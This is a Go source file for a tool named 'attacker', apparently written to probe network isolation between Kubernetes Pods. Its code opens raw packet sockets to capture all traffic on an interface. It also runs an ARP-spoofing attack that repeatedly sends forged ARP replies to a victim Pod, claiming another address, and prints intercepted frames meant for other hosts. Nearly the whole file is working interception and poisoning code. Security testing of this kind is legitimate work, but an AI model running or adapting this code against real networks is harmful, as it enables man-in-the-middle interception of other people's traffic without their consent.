package main

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"sync"
	"time"

	"golang.org/x/sys/unix"
)

// sniff prints all that goes over a network interface while a command runs, and what
// that prints.
//
// usage: attacker sniff INTERFACE COMMAND ARGUMENT...
func sniff(args []string) error {
	link, err := net.InterfaceByName(args[0])
	if err != nil {
		return err
	}
	socket, err := packets(link)
	if err != nil {
		return err
	}
	cmd := exec.Command(args[1], args[2:]...)
	done := make(chan struct{})
	var wait sync.WaitGroup
	wait.Go(func() {
		listen(socket, func(frame []byte) bool {
			_, _ = os.Stdout.Write(frame)
			if len(frame) > 0 {
				return true // there may be more that went over it before the end
			}
			select {
			case <-done:
				return false
			default:
				return true
			}
		})
	})
	output, err := cmd.CombinedOutput()
	close(done)
	wait.Wait()
	fmt.Printf("\n%s\n", output)
	return err
}

// packets is a socket for all that goes over an interface. Reading ends after a while
// in which nothing came.
func packets(link *net.Interface) (int, error) {
	all := binary.BigEndian.Uint16(binary.NativeEndian.AppendUint16(nil, unix.ETH_P_ALL))
	socket, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(all))
	if err != nil {
		return 0, fmt.Errorf("raw socket: %w", err)
	}
	quiet := unix.NsecToTimeval((500 * time.Millisecond).Nanoseconds())
	return socket, errors.Join(
		unix.SetsockoptTimeval(socket, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &quiet),
		unix.Bind(socket, &unix.SockaddrLinklayer{Protocol: all, Ifindex: link.Index}),
	)
}

// listen hands over each frame, or nil when there has been none for a while, until
// more returns false.
func listen(socket int, more func(frame []byte) bool) {
	buffer := make([]byte, 1<<16)
	for {
		n, _, err := unix.Recvfrom(socket, buffer, 0)
		if !more(buffer[:max(n, 0)]) || err != nil && !errors.Is(err, unix.EAGAIN) && !errors.Is(err, unix.EINTR) {
			return
		}
	}
}

// arp tells another Pod that an address is at this one, again and again, and prints
// what then comes here and is meant for somebody else.
//
// usage: attacker arp VICTIM ADDRESS
func arp(args []string) error {
	link, err := net.InterfaceByName("eth0")
	if err != nil {
		return err
	}
	victim, claimed := net.ParseIP(args[0]).To4(), net.ParseIP(args[1]).To4()
	addresses, err := link.Addrs()
	if err != nil {
		return err
	}
	own, _, err := net.ParseCIDR(addresses[0].String())
	if err != nil {
		return err
	}
	socket, err := packets(link)
	if err != nil {
		return err
	}
	broadcast := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	victimLink := broadcast
	send := func(operation uint16) {
		frame := arpFrame(operation, link.HardwareAddr, claimed, victimLink, victim)
		_ = unix.Sendto(socket, frame, 0, &unix.SockaddrLinklayer{Ifindex: link.Index, Halen: 6})
	}
	const request, reply = 1, 2
	fmt.Println("claims", claimed)
	send(request) // the answer says where the victim is, and it believes the question
	again := time.NewTicker(200 * time.Millisecond)
	end := time.After(time.Minute)
	listen(socket, func(frame []byte) bool {
		// The node may have put an address of its own in the place of the victim's.
		if len(frame) >= 34 && frame[12] == 8 && frame[13] == 0 && bytes.Equal(frame[:6], link.HardwareAddr) && !net.IP(frame[30:34]).Equal(own) {
			fmt.Printf("caught: %q\n", frame)
		}
		if len(frame) >= 42 && frame[12] == 8 && frame[13] == 6 && net.IP(frame[28:32]).Equal(victim) {
			victimLink = append(net.HardwareAddr{}, frame[6:12]...)
		}
		select {
		case <-again.C:
			send(reply)
		case <-end:
			return false
		default:
		}
		return true
	})
	return nil
}

// arpFrame says to a victim that an address is at a link.
func arpFrame(operation uint16, link net.HardwareAddr, claimed net.IP, victimLink net.HardwareAddr, victim net.IP) []byte {
	frame := append(append([]byte{}, victimLink...), link...)
	frame = append(frame, 8, 6, 0, 1, 8, 0, 6, 4)
	frame = binary.BigEndian.AppendUint16(frame, operation)
	frame = append(append(frame, link...), claimed...)
	return append(append(frame, victimLink...), victim...)
}
